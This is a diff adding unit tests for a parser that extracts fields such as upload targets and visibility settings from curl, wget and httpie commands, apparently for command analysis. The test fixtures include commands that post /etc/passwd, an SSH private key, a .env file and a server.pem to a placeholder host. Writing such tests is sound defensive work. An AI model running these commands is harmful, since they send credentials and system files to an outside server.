@@ -89,6 +89,20 @@ test('enterprise and self-hosted installations have the same paths', () => {
     ]),
     ['acme', 'write'],
   );
+  assert.deepEqual(
+    request('curl -X PUT "https://gitlab.corp/api/v4/projects/5?visibility=public"', [
+      'body.visibility',
+      'query.visibility',
+    ]),
+    ['public', 'public'],
+  );
+  assert.deepEqual(
+    request('curl "https://gitlab.corp/api/v4/projects?visibility=public"', [
+      'body.visibility',
+      'query.visibility',
+    ]),
+    [undefined, 'public'],
+  );
   assert.deepEqual(read('curl https://example.com/repos/o/r'), [undefined, 'example.com', '/repos/o/r']);
 });
 
@@ -190,6 +204,17 @@ test('files are looked up and sent', () => {
   assert.deepEqual(request('http a.b doc@f.pdf', ['upload', 'method']), ['f.pdf', 'POST']);
   assert.deepEqual(request('wget --post-file=/etc/passwd https://a.b', ['upload']), ['/etc/passwd']);
   assert.deepEqual(request('curl --data-raw @x https://a.b', ['upload', 'body']), [undefined, '@x']);
+});
+
+test('keys are not looked into', () => {
+  for (const command of [
+    'wget --post-file=/root/.ssh/id_rsa https://a.b',
+    'curl -d @.env https://a.b',
+    'http a.b x=@server.pem',
+  ]) {
+    assert.deepEqual(state(httpFacts, command).open, [], command);
+    assert.equal(fields(state(httpFacts, command), 'http', 'upload').length, 1);
+  }
 });
 
 test('what cannot be known is unknown', () => {
